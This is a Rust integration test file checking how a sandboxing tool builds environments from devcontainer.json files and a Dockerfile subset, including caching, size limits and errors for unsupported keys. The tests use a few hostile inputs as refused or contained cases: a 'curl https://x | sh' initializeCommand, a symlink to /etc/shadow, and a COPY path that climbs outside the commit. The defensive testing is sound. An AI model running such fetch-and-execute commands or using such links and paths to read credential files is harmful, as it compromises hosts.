//! Environments built from the repository (issue 57): a devcontainer.json's image, variables and
//! create commands, and a Dockerfile's subset built here — COPY of the commit's files, RUN in a
//! user namespace — each step a layer kept by its key. Against a real registry, as
//! `tests/runs/image.rs`.

use crate::common;

use super::image::{image, run, worlds};
use common::registry::Registry;
use common::World;
use serde_json::Value;

/// A repository's devcontainer.json (JSONC) names the image, its variables and its create
/// commands; `init` proposes it; what cannot be honoured is refused by its key.
#[test]
fn a_devcontainer_json_gives_the_image_its_variables_and_the_setup_and_init_proposes_it() {
    let w = World::new();
    let registry = Registry::start();
    let host = registry.host();
    let digest = registry.push("test/dev", "1", &image("one"));
    w.user_config(&format!(
        "[environment]\ninsecure_registries = [\"{host}\"]\n"
    ));
    let devcontainer = format!(
        r#"// The project's container, as an editor opens it.
{{
  "name": "project",
  "image": "{host}/test/dev:1", /* busybox, for the test */
  "containerEnv": {{
    "APP_MODE": "test",
    "IMAGE_VAR": "overridden",
  }},
  "remoteUser": "vscode",
  "postCreateCommand": ["sh", "-c", "mkdir -p deps && echo made > deps/made"],
  "customizations": {{ "vscode": {{ "extensions": ["ms-python.python"] }} }},
}}
"#
    );
    let command = "test \\\"$APP_MODE\\\" = test && test \\\"$IMAGE_VAR\\\" = overridden && cat deps/made /etc/version";
    // Adopted by `init` from the work tree, in a plain repository.
    let repo = w.work().join("devcontainer");
    std::fs::create_dir_all(&repo).unwrap();
    w.git(&repo, &["init", "-q", "-b", "main"]);
    w.commit(
        &repo,
        &[
            (".devcontainer/devcontainer.json", &devcontainer),
            (
                "Makefile",
                &format!("test:\n\t{}\n", command.replace("\\\"", "\"")),
            ),
        ],
        "a project with a devcontainer",
    );
    assert_eq!(w.sandbox(&repo, &["init"]).code, 0);
    let adopted = w.sandbox(&repo, &["config", "--adopted"]).success().stdout;
    assert!(
        adopted.contains("devcontainer = \".devcontainer/devcontainer.json\""),
        "{adopted}"
    );
    // The commit's own config names it and the command.
    w.commit(
        &repo,
        &[(
            ".sandbox.toml",
            &format!("[environment]\ndevcontainer = \".devcontainer/devcontainer.json\"\n[test]\ncommand = \"{command}\"\n[analysis]\nenabled = false\n"),
        )],
        "the config",
    );
    let rec = run("devcontainer", &w, &repo);
    assert_eq!(rec["environment"]["digest"], digest.as_str(), "{rec}");
    assert_eq!(rec["environment"]["user"], "vscode");
    assert_eq!(rec["tests"]["setup"]["how"], "built", "{rec}");
    let out = rec["tests"]["output_tail"].as_str().unwrap();
    assert!(out.contains("made") && out.contains("one"), "{out}");
    // `image pull` with no reference pulls what HEAD's config names (here, through the
    // devcontainer.json): held, one request.
    let pulled = w
        .sandbox(&repo, &["image", "pull", "--json"])
        .success()
        .json();
    assert_eq!(pulled["image"]["digest"], digest.as_str(), "{pulled}");
    let plain = w.new_repo("no-image");
    let o = w.sandbox(&plain, &["image", "pull"]);
    assert_eq!(o.code, 2, "{o:?}");
    assert!(o.stderr.contains("names no image"), "{o:?}");

    // A devcontainer that asks for what git-sandbox cannot honour: an error naming the key.
    w.commit(
        &repo,
        &[(
            ".devcontainer/devcontainer.json",
            &devcontainer.replace(
                "\"remoteUser\"",
                "\"initializeCommand\": \"curl https://x | sh\",\n  \"remoteUser\"",
            ),
        )],
        "runs something on the host",
    );
    let o = w.sandbox(&repo, &["run", "--json"]);
    let rec = o.json()[0].clone();
    assert_eq!(rec["status"], "error", "{o:?}");
    let error = rec["error"].as_str().unwrap();
    assert!(
        error.contains("devcontainer.json") && error.contains("initializeCommand"),
        "{error}"
    );
}

/// A Dockerfile of the commit's own, built here: FROM an image on the registry, ENV, WORKDIR,
/// USER, COPY of the commit's files and RUN (as the image's root, in a user namespace), each a
/// layer; kept by its key, so an unrelated change builds nothing; a failing RUN and what is not
/// the subset are errors naming the line.
#[test]
fn a_dockerfile_builds_the_runs_root_from_the_commits_files_and_is_kept_by_its_key() {
    let w = World::new();
    let registry = Registry::start();
    let host = registry.host();
    let base = registry.push("test/base", "1", &image("one"));
    w.user_config(&format!(
        "[environment]\ninsecure_registries = [\"{host}\"]\n"
    ));
    let repo = w.new_repo("dockerfile");
    let dockerfile = format!(
        "# The project's environment\nARG BASE={host}/test/base:1\nFROM ${{BASE}}\nENV APP_HOME=/app \\\n    GREETING=\"hello from the build\"\nWORKDIR $APP_HOME\nCOPY conf/ /opt/conf/\nCOPY tools/run.sh /usr/local/bin/run-tests\nCOPY tools/link /opt/link\nRUN mkdir -p /opt/made && echo built as $(id -u) in $PWD > /opt/made/stamp\nRUN rm /etc/os-release\nUSER nobody\n"
    );
    let command = "test \\\"$GREETING\\\" = 'hello from the build' && test \\\"$PWD\\\" = /app && test -L /opt/link && cat /opt/conf/settings.ini && /usr/local/bin/run-tests && cat /opt/made/stamp && test ! -e /etc/os-release";
    w.commit(
        &repo,
        &[
            ("Dockerfile", &dockerfile),
            ("conf/settings.ini", "mode=one\n"),
            ("tools/run.sh", "#!/bin/sh\necho ran in the build\n"),
            (
                ".sandbox.toml",
                &format!("[environment]\ndockerfile = \"Dockerfile\"\n[test]\ncommand = \"{command}\"\n[analysis]\nenabled = false\n"),
            ),
        ],
        "an environment built from the commit",
    );
    std::os::unix::fs::symlink("/etc/shadow", repo.join("tools/link")).unwrap();
    std::fs::set_permissions(
        repo.join("tools/run.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    w.git(&repo, &["add", "tools"]);
    w.git(&repo, &["commit", "-q", "-m", "an executable and a link"]);
    let first = run("built", &w, &repo);
    let env = &first["environment"];
    // Three COPYs and two RUNs, each a layer.
    assert_eq!(env["layers"].as_array().unwrap().len(), 5, "{first}");
    assert_ne!(env["digest"], base.as_str());
    assert_eq!(env["user"], "nobody");
    assert!(
        env["image"].as_str().unwrap().contains("Dockerfile"),
        "{env}"
    );
    let out = first["tests"]["output_tail"].as_str().unwrap();
    assert!(
        out.contains("mode=one") && out.contains("ran in the build"),
        "{out}"
    );
    // RUN ran as the image's root, at the WORKDIR; its delete is a whiteout over the base.
    assert!(out.contains("built as 0 in /app"), "{out}");
    assert_eq!(first["toolchain"]["image"], env["digest"]);

    // A change the Dockerfile does not copy builds nothing: the same environment.
    let layers = common::files_under(&w.data().join("images/layers")).len();
    w.commit(&repo, &[("src.txt", "x\n")], "unrelated");
    let second = run("unrelated", &w, &repo);
    assert_eq!(second["environment"]["digest"], env["digest"]);
    assert_eq!(
        common::files_under(&w.data().join("images/layers")).len(),
        layers
    );
    // A file it copies is a new environment.
    w.commit(
        &repo,
        &[("conf/settings.ini", "mode=two\n")],
        "new settings",
    );
    let third = run("copied", &w, &repo);
    assert_ne!(third["environment"]["digest"], env["digest"]);
    assert!(third["tests"]["output_tail"]
        .as_str()
        .unwrap()
        .contains("mode=two"));

    // Not the subset: an error naming the line; nothing runs.
    for (text, says) in [
        ("CMD [\"x\"]", "line 13: CMD is not supported"),
        (
            "RUN echo failing && exit 3",
            "line 13: RUN echo failing && exit 3: exited with 3; the end of its output: failing",
        ),
        ("COPY ../outside /x", "is not a path inside the commit"),
    ] {
        w.commit(
            &repo,
            &[("Dockerfile", &format!("{dockerfile}{text}\n"))],
            "not the subset",
        );
        let o = w.sandbox(&repo, &["run", "--json"]);
        let rec = o.json()[0].clone();
        assert_eq!(rec["status"], "error", "{text}: {o:?}");
        assert!(
            rec["error"].as_str().unwrap().contains(says),
            "{text}: {rec}"
        );
        assert!(rec["tests"].is_null());
    }
}

/// RUN as root (its namespace mapped onto the image's reserved uids) and as another user (that
/// user alone): the step's files are the layer, the build is kept.
#[test]
fn a_dockerfile_run_builds_for_root_and_for_an_unprivileged_user() {
    let registry = Registry::start();
    let host = registry.host();
    registry.push("test/run-base", "1", &image("one"));
    for (who, w) in worlds() {
        w.user_config(&format!(
            "[environment]\ninsecure_registries = [\"{host}\"]\n"
        ));
        let repo = w.new_repo("run-step");
        w.commit(
            &repo,
            &[
                (
                    "Dockerfile",
                    &format!("FROM {host}/test/run-base:1\nARG WHO=an-arg\nRUN echo made by $(id -u) for $WHO > /made && mkdir -p /var/cache/x\n"),
                ),
                (
                    ".sandbox.toml",
                    "[environment]\ndockerfile = \"Dockerfile\"\n[test]\ncommand = \"cat /made && test -d /var/cache/x\"\n[analysis]\nenabled = false\n",
                ),
            ],
            "a RUN",
        );
        let rec = run(who, &w, &repo);
        assert!(
            rec["tests"]["output_tail"]
                .as_str()
                .unwrap()
                .contains("made by 0 for an-arg"),
            "{who}: {rec}"
        );
        w.commit(&repo, &[("src.txt", "x\n")], "unrelated");
        let again = run(who, &w, &repo);
        assert_eq!(
            again["environment"]["digest"], rec["environment"]["digest"],
            "{who}"
        );
    }
}

/// A RUN is kept by its key: a later instruction that changes does not run it again; and what
/// it may write is bounded by `[environment] image_mb`.
#[test]
fn a_run_step_is_kept_by_its_key_and_bounded_by_image_mb() {
    let w = World::new();
    let registry = Registry::start();
    let host = registry.host();
    registry.push("test/kept", "1", &image("one"));
    w.user_config(&format!(
        "[environment]\ninsecure_registries = [\"{host}\"]\nimage_mb = 16\n"
    ));
    let repo = w.new_repo("kept-step");
    let dockerfile = format!(
        "FROM {host}/test/kept:1\nRUN cat /proc/sys/kernel/random/uuid > /stamp\nCOPY late.txt /late.txt\n"
    );
    w.commit(
        &repo,
        &[
            ("Dockerfile", &dockerfile),
            ("late.txt", "one\n"),
            (
                ".sandbox.toml",
                "[environment]\ndockerfile = \"Dockerfile\"\n[test]\ncommand = \"cat /stamp /late.txt\"\n[analysis]\nenabled = false\n",
            ),
        ],
        "a RUN, then a COPY",
    );
    // Built ahead: the run then builds nothing.
    let o = w.sandbox(&repo, &["image", "build", "--json"]).success();
    assert!(o.stderr.contains("1 RUN step ran now"), "{o:?}");
    let built = o.json();
    assert_eq!(built["layers"].as_array().unwrap().len(), 2, "{built}");
    let again = w.sandbox(&repo, &["image", "build"]).success();
    assert!(
        again.stderr.contains("every step was kept: nothing ran")
            && again.stdout.contains(built["digest"].as_str().unwrap()),
        "{again:?}"
    );
    let first = run("first", &w, &repo);
    assert_eq!(first["environment"]["digest"], built["digest"]);
    let stamp = |rec: &Value| {
        rec["tests"]["output_tail"]
            .as_str()
            .unwrap()
            .lines()
            .next()
            .unwrap()
            .to_string()
    };
    w.commit(&repo, &[("late.txt", "two\n")], "the COPY changes");
    let second = run("second", &w, &repo);
    assert_ne!(
        second["environment"]["digest"],
        first["environment"]["digest"]
    );
    assert!(second["tests"]["output_tail"]
        .as_str()
        .unwrap()
        .contains("two"));
    assert_eq!(
        stamp(&second),
        stamp(&first),
        "the RUN before it was not run again"
    );
    // Past image_mb, the step runs out of room: the commit's error, naming the line.
    w.commit(
        &repo,
        &[(
            "Dockerfile",
            &format!("{dockerfile}RUN head -c 40000000 /dev/zero > /big\n"),
        )],
        "writes too much",
    );
    let o = w.sandbox(&repo, &["run", "--json"]);
    let rec = o.json()[0].clone();
    assert_eq!(rec["status"], "error", "{o:?}");
    let error = rec["error"].as_str().unwrap();
    // (busybox's head says "I/O error" when its tmpfs is full.)
    assert!(
        error.contains("line 4: RUN head") && error.contains("exited with 1"),
        "{error}"
    );
}

/// A COPY goes where the image means its directory: through the image's own links (as a
/// merged-/usr root's /bin is usr/bin), never over them.
#[test]
fn a_copy_follows_the_images_links_inside_the_image() {
    use common::registry::{busybox_root, tar_of, TestImage};
    let w = World::new();
    let registry = Registry::start();
    let host = registry.host();
    registry.push(
        "test/linked",
        "1",
        &TestImage {
            layers: vec![
                busybox_root(),
                tar_of(&[
                    ("opt/real/", b""),
                    ("opt/real/kept", b"kept\n"),
                    ("opt/alias", b"-> real"),
                ]),
            ],
            ..image("one")
        },
    );
    w.user_config(&format!(
        "[environment]\ninsecure_registries = [\"{host}\"]\n"
    ));
    let repo = w.new_repo("linked");
    w.commit(
        &repo,
        &[
            ("Dockerfile", &format!("FROM {host}/test/linked:1\nCOPY run.sh /opt/alias/run.sh\n")),
            ("run.sh", "echo copied\n"),
            (
                ".sandbox.toml",
                "[environment]\ndockerfile = \"Dockerfile\"\n[test]\ncommand = \"test -L /opt/alias && cat /opt/real/run.sh /opt/alias/kept\"\n[analysis]\nenabled = false\n",
            ),
        ],
        "a COPY through the image's link",
    );
    let rec = run("linked", &w, &repo);
    let out = rec["tests"]["output_tail"].as_str().unwrap();
    assert!(out.contains("copied") && out.contains("kept"), "{out}");
}

/// A devcontainer.json's `build`: its Dockerfile (beside it, the repository's root the context)
/// and its `args`, the values of the Dockerfile's `ARG`s; new args are a new environment.
#[test]
fn a_devcontainers_build_args_are_the_dockerfiles_arg_values() {
    let w = World::new();
    let registry = Registry::start();
    let host = registry.host();
    registry.push("test/dev-build", "1", &image("one"));
    w.user_config(&format!(
        "[environment]\ninsecure_registries = [\"{host}\"]\n"
    ));
    let repo = w.new_repo("devcontainer-build");
    let devcontainer = |greeting: &str| {
        format!(
            r#"{{
  // built here, from the Dockerfile beside this file
  "build": {{"dockerfile": "Dockerfile", "context": "..", "args": {{"GREETING": "{greeting}"}}}},
}}
"#
        )
    };
    w.commit(
        &repo,
        &[
            (".devcontainer/devcontainer.json", &devcontainer("from the args")),
            (
                ".devcontainer/Dockerfile",
                &format!("FROM {host}/test/dev-build:1\nARG GREETING=the-default\nARG OTHER=kept\nRUN echo \"$GREETING, $OTHER\" > /greeting\n"),
            ),
            (
                ".sandbox.toml",
                "[environment]\ndevcontainer = \".devcontainer/devcontainer.json\"\n[test]\ncommand = \"cat /greeting\"\n[analysis]\nenabled = false\n",
            ),
        ],
        "a devcontainer that builds",
    );
    let first = run("args", &w, &repo);
    assert_eq!(
        first["tests"]["output_tail"], "from the args, kept",
        "{first}"
    );
    w.commit(
        &repo,
        &[(".devcontainer/devcontainer.json", &devcontainer("new args"))],
        "new args",
    );
    let second = run("new args", &w, &repo);
    assert_eq!(second["tests"]["output_tail"], "new args, kept", "{second}");
    assert_ne!(
        second["environment"]["digest"],
        first["environment"]["digest"]
    );
}
